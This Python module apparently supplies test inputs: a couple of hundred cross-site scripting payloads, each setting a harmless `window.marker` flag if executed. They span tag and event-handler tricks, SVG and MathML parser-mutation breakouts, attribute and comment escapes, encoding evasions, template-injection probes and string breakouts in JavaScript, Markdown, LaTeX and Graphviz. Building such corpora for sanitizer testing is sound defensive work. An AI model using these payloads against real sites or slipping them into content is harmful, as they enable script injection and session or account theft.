"""Two hundred texts that are scripts wherever they are taken for more than text: each sets `window.marker` to 1 if it ever runs."""

from itertools import product

RUN = "window.marker=1"
IMAGE = f"<img src=x onerror={RUN}>"
SCRIPT = f"<script>{RUN}</script>"

_TAGS = (
    SCRIPT,
    f"<SCRIPT>{RUN}</ScRiPt>",
    f"<script >{RUN}</script >",
    f"<script/x>{RUN}</script>",
    f"<script\n>{RUN}</script\n>",
    f"<script type=module>{RUN}</script>",
    f"<script src=data:text/javascript,{RUN}></script>",
    f"<script>/*<!--*/{RUN}//--></script>",
    f"<<script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</script>",
    f"<script>{RUN}",
    IMAGE,
    f"<img/src=x/onerror={RUN}>",
    f"<img src onerror={RUN}//",
    f"<IMG SRC=x ONERROR={RUN}>",
    f"<img src=x onerror='{RUN}'>",
    f'<img src=x onerror="{RUN}">',
    f"<img src=x:x onerror=`{RUN}`>",
    f"<img\tsrc=x\tonerror={RUN}>",
    f"<img\x0csrc=x\x0conerror={RUN}>",
    "<img src=x onerror=window['mark'+'er']=1>",
    "<img src=x onerror=&#119;indow.marker=1>",
    "<img src=x onerror=\\u0077indow.marker=1>",
    "<img src=x onerror=eval(atob('d2luZG93Lm1hcmtlcj0x'))>",
    f"<img srcset=x onerror={RUN}>",
    f"<image src=x onerror={RUN}>",
    f"<picture><source srcset=x><img onerror={RUN} src=x></picture>",
    f"<video src=x onerror={RUN}></video>",
    f"<video><source onerror={RUN} src=x></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<body onload={RUN}>",
    f"<body onpageshow={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<button autofocus onfocus={RUN}>x</button>",
    f"<a href=# autofocus onfocus={RUN}>x</a>",
    f"<p tabindex=0 autofocus onfocus={RUN}>x",
    f"<details open ontoggle={RUN}>x</details>",
    f"<object data=x onerror={RUN}></object>",
    f"<object data='data:text/html,<script>parent.{RUN[7:]}</script>'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<link rel=stylesheet href=x onerror={RUN}>",
    f"<style>@keyframes a{{}}</style><p style='animation-name:a' onanimationstart={RUN}>x</p>",
    f"<style onload={RUN}></style>",
    f"<iframe onload={RUN}></iframe>",
    f"<iframe src='javascript:parent.{RUN[7:]}'></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN[7:]}</script>"></iframe>',
    "<iframe srcdoc='&lt;script&gt;parent.marker=1&lt;/script&gt;'></iframe>",
    f"<iframe src='data:text/html,<script>parent.{RUN[7:]}</script>'></iframe>",
    f"<frameset onload={RUN}></frameset>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<base href='javascript:{RUN}//'>",
    f"<form action='javascript:{RUN}'><button autofocus>x</button></form>",
    f"<button formaction='javascript:{RUN}' form=state>x</button>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<a href='java\tscript:{RUN}'>x</a>",
    f"<a href='&#1;javascript:{RUN}'>x</a>",
    f"<a href='javascript&colon;{RUN}'>x</a>",
    f"<a href='JaVaScRiPt:{RUN}'>x</a>",
    f"<a href='vbscript:{RUN}'>x</a>",
    f"<x onpointerrawupdate={RUN} style='position:fixed;inset:0'>x",
    f"<x onfocusin={RUN} tabindex=0 autofocus>x</x>",
    f"<dialog open onclose={RUN}><form method=dialog><button autofocus></button></form></dialog>",
    f"<template shadowrootmode=open>{IMAGE}</template>",
    f"<isindex type=image src=x onerror={RUN}>",
    f"<keygen autofocus onfocus={RUN}>",
    f"<xmp><p title='</xmp>{IMAGE}'>",
    f"<plaintext>{IMAGE}",
)
"""Elements of HTML that run something by themselves."""

_FOREIGN = (
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href='data:text/javascript,{RUN}'/></svg>",
    f"<svg xmlns:xlink='http://www.w3.org/1999/xlink'><script xlink:href='data:text/javascript,{RUN}'/></svg>",
    "<svg><script>window&#46;marker=1</script></svg>",
    f"<svg><script><![CDATA[{RUN}]]></script></svg>",
    f"<script xmlns='http://www.w3.org/2000/svg'>{RUN}</script>",
    f"<script xmlns='http://www.w3.org/1999/xhtml'>{RUN}</script>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><set onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><animateTransform onbegin={RUN} attributeName=transform dur=1s></svg>",
    f"<svg><a><animate attributeName=href values='javascript:{RUN}'/><text y=9>x</text></a></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
    f"<svg><image href=x onerror={RUN} /></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={RUN} />#x' /></svg>",
    f"<svg><foreignObject>{IMAGE}</foreignObject></svg>",
    f"<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='{RUN}'/></foreignObject>",
    f"<svg><desc>{IMAGE}</desc></svg>",
    f"<svg><title>{IMAGE}</title></svg>",
    f"<svg><style>{IMAGE}</style></svg>",
    f"<svg><style><!--</style>{IMAGE}--></style></svg>",
    f"<svg></p><style><a id='</style>{IMAGE}'>",
    f"<svg><discard onbegin={RUN} /></svg>",
    f"<svg><handler xmlns='http://www.w3.org/2001/xml-events' event=load>{RUN}</handler></svg>",
    f"<math><mtext></p>{IMAGE}</mtext></math>",
    f"<math><mi><script>{RUN}</script></mi></math>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"<math><maction actiontype='statusline#javascript:{RUN}' xlink:href='javascript:{RUN}'>x</maction></math>",
    f"<math><annotation-xml encoding='text/html'>{IMAGE}</annotation-xml></math>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><style></math>{IMAGE}",
    f"<noscript><p title='</noscript>{IMAGE}'>",
    f"<template><style><!--</template>{IMAGE}--></style>",
    f"<table><td><svg><style><p>{IMAGE}",
)
"""SVG, MathML, and what parsers change when they read text twice."""

_EVENTS = f"onerror={RUN} onload={RUN} src=x"
_LEAVING = tuple(
    f"{quote}{close}{body}"
    for quote, (close, body) in product(
        ('"', "'", "`", "\\'", '\\"', "&quot;", "&#39;", "\u2019", "\uff02"),
        ((">", IMAGE), (" ", f"autofocus onfocus={RUN} tabindex=0 x="), ("/>", f"<svg {_EVENTS}>")),
    )
)
"""Out of an attribute, by each kind of quote."""

_CLOSING = tuple(
    f"{close}{IMAGE}"
    for close in (
        "</title>", "</textarea>", "</style>", "</desc>", "</script>", "</text>", "</svg>", "</pre>", "</select>", "</option>",
        "</noscript>",
        "</template>", "</math>", "</mtext>", "</code>", "</annotation>", "-->", "--!>", "]]>", "?>", "%>", "*/", "\n", "\0", "\ufeff",
        "\u202e",
        "\u2028", "</tspan></text>", "</g></svg>", "</li></ul></div>", "</TEXTAREA >", "</title/>", "<!--", "<![CDATA[",
        "<?xml version='1.0'?>",
        "<!doctype html>", "<!doctype x [<!entity y 'z'>]>", "<?x ", "<!-->", "<!--->", "\x1b", "\xad",
    )
)  # fmt: skip
"""Out of an element, a comment, a section, a processing instruction."""

_ENCODED = (
    IMAGE.replace("<", "&lt;").replace(">", "&gt;"),
    IMAGE.replace("<", "&#60;").replace(">", "&#62;"),
    IMAGE.replace("<", "&#x3c;").replace(">", "&#x3e;"),
    IMAGE.replace("<", "&#x0003C;").replace(">", "&#x0003E;"),
    IMAGE.replace("<", "&#x003C;").replace(">", "&#x003E;"),
    IMAGE.replace("<", "&LT").replace(">", "&GT"),
    IMAGE.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
    IMAGE.replace("<", "%3C").replace(">", "%3E"),
    IMAGE.replace("<", "%253C").replace(">", "%253E"),
    IMAGE.replace("<", "\\u003c").replace(">", "\\u003e"),
    IMAGE.replace("<", "\\x3c").replace(">", "\\x3e"),
    IMAGE.replace("<", "\uff1c").replace(">", "\uff1e"),
    IMAGE.replace("<", "\u2039").replace(">", "\u203a"),
    IMAGE.replace("<", "<\0"),
    IMAGE.replace("<", "+ADw-").replace(">", "+AD4-"),
    IMAGE.replace("<", "\xc0\xbc"),
    "\u202e" + IMAGE + "\u202c",
    IMAGE.replace("img", "im\u200bg"),
    IMAGE.replace("img", "\u0131mg"),
    f"&NewLine;{IMAGE}&Tab;",
)
"""By other names."""

_TEMPLATES = (
    "{{7*7}}{{self.__init__.__globals__}}" + IMAGE,
    "{% print(1) %}" + IMAGE,
    "{{constructor.constructor('window.marker=1')()}}",
    "${window.marker=1}",
    "#{window.marker=1}",
    "<%= 7*7 %>" + IMAGE,
    "`${window.marker=1}`",
    "${{window.marker=1}}",
    "{{'</textarea>" + IMAGE + "'}}",
    "[[${window.marker=1}]]",
)
_STRINGS = (
    f'";{RUN};//',
    f"';{RUN};//",
    f"`;{RUN};//",
    f"\\';{RUN};//",
    f'\\";{RUN};//',
    f"</script><script>{RUN}</script>",
    f'"}}]}}</script><script>{RUN}</script>',
    f"<!--<script></script>{SCRIPT}",
    f"\u2028{RUN}\u2028",
    f"\n{RUN}\n",
    f"'-({RUN})-'",
    f'"+({RUN})+"',
    f"javascript:{RUN}",
    f"javascript://%0a{RUN}",
    f"data:text/html,{SCRIPT}",
    f"\\text{{{IMAGE}}}",
    f"\\href{{javascript:{RUN}}}{{x}}",
    f"$${IMAGE}$$",
    f"[x](javascript:{RUN})",
    f"![x](x){{onerror={RUN}}}",
    f']; n0 -> n1 [URL="javascript:{RUN}"]',
    f"<<b>{IMAGE}</b>>",
    f"<<table><tr><td href='javascript:{RUN}'>x</td></tr></table>>",
    f'fontname="Times{SCRIPT}"',
)
"""Out of a string in a script, an address, a template, Markdown, LaTeX and Graphviz's language."""

SCRIPTS = (*_TAGS, *_FOREIGN, *_LEAVING, *_CLOSING, *_ENCODED, *_TEMPLATES, *_STRINGS)
